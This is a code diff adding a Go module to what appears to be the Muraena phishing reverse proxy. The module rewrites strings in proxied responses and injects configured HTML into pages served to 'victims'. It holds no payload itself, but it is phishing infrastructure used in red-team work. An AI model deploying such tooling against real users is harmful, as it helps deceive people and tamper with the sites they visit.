@@ -0,0 +1,58 @@
+package proxy
+
+import (
+	"strings"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// responseVariant is a variant of the transformation of the responses, applied to the victims assigned to it
+type responseVariant struct {
+	replacer *strings.Replacer
+	inject   string
+}
+
+// variants are the response variants by name, nil if none
+var variants map[string]*responseVariant
+
+// newResponseVariants returns the response variants of the configuration, nil if none
+func newResponseVariants(sess *session.Session) map[string]*responseVariant {
+	if len(sess.Config.Variants) == 0 {
+		return nil
+	}
+
+	variants := make(map[string]*responseVariant)
+	for _, v := range sess.Config.Variants {
+		rv := &responseVariant{inject: v.Inject}
+		if len(v.Replace) > 0 {
+			var pairs []string
+			for _, r := range v.Replace {
+				pairs = append(pairs, r...)
+			}
+			rv.replacer = strings.NewReplacer(pairs...)
+		}
+		variants[v.Name] = rv
+	}
+	return variants
+}
+
+// Apply returns the transformed body of the variant: its replacements are applied to any body, and its HTML is
+// injected before the closing body tag of the pages, or at their end
+func (v *responseVariant) Apply(contentType, body string) string {
+	if v == nil {
+		return body
+	}
+
+	if v.replacer != nil {
+		body = v.replacer.Replace(body)
+	}
+
+	if v.inject != "" && strings.Contains(strings.ToLower(contentType), "html") {
+		if i := strings.LastIndex(strings.ToLower(body), "</body>"); i >= 0 {
+			return body[:i] + v.inject + body[i:]
+		}
+		body += v.inject
+	}
+
+	return body
+}